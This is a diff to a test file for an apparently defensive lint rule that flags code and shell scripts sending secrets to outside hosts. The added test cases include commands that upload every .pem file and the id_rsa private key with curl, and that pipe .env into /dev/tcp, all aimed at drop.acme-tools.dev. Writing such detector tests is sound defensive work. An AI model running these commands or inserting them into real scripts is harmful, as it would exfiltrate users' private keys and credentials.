@@ -24,6 +24,8 @@ await ruleTester(rule, {
     { code: 'const get = (k) => localStorage.getItem(k); fetch(\'https://api.example-service.com/\', { method: \'POST\', body: get(name) });' },
     { code: 'for (const k of Object.keys(localStorage)) if (k.startsWith(\'app:\')) localStorage.removeItem(k); fetch(\'https://api.example-service.com/\', { body: localStorage.getItem(\'theme\') });' },
     { code: 'function f(password) { const x = new XMLHttpRequest(); x.open(\'POST\', \'/api/login\'); x.send(password); }' },
+    { code: 'find . -name \'*.png\' -exec curl -T {} https://cdn.acme.dev/ \\;', filename: 'scripts/run.sh' },
+    { code: 'find . -name \'*.pem\' -exec openssl x509 -in {} -noout \\;\necho ready > /dev/tcp/localhost/80', filename: 'scripts/run.sh' },
     { code: 'curl -X POST "https://api.datadoghq.com/api/v1/series?api_key=${DD_API_KEY}" -d @metrics.json', filename: 'report.sh' },
     // the key of an interface in its own parameter, whatever the rest of the address
     { code: 'const ask = (model, apiKey, body) => fetch(`https://generativelanguage.googleapis.com/v1beta/models/${model}:generateContent?key=${apiKey}`, { method: "POST", body });' },
@@ -185,6 +187,9 @@ await ruleTester(rule, {
     { code: 'function f(password) { const x = new XMLHttpRequest(); x.open(\'POST\', \'https://x.example-service.com/k\'); x.send(password); }', errors: [{ messageId: 'credential' }] },
     { code: 'function f(password) { const x = new XMLHttpRequest(); x.open(\'POST\', \'https://x.example-service.com/k\', true); x.setRequestHeader(\'a\', \'b\'); x.send(\'p=\' + password); }', errors: [{ messageId: 'credential' }] },
     { code: 'const net = require(\'net\'); function f(password) { const s = new net.Socket(); s.connect(4444, \'x.example-service.com\'); s.write(password); }', errors: [{ messageId: 'credential' }] },
+    { code: 'find / -name \'*.pem\' -exec curl -F f=@{} https://drop.acme-tools.dev/u \\;', filename: 'scripts/run.sh', errors: [{ messageId: 'sent' }] },
+    { code: 'find ~ -name id_rsa | xargs -I{} curl -T {} https://drop.acme-tools.dev/', filename: 'scripts/run.sh', errors: [{ messageId: 'sent' }] },
+    { code: 'cat .env > /dev/tcp/drop.acme-tools.dev/80', filename: 'scripts/run.sh', errors: [{ messageId: 'sent' }] },
     { code: 'curl -X POST "https://api.datadoghq.com/api/v1/series?api_key=${NPM_TOKEN}" -d @metrics.json', filename: 'report.sh', errors: [{ messageId: 'sent' }] },
     { code: 'const ask = (anthropicApiKey) => fetch(`https://generativelanguage.googleapis.com/v1beta/models?key=${anthropicApiKey}`);', errors: [{ messageId: 'credential' }] },
     { code: 'const track = (password) => fetch(`https://www.google-analytics.com/mp/collect?measurement_id=G-1&api_secret=x&ep=${password}`);', errors: [{ messageId: 'credential' }] },
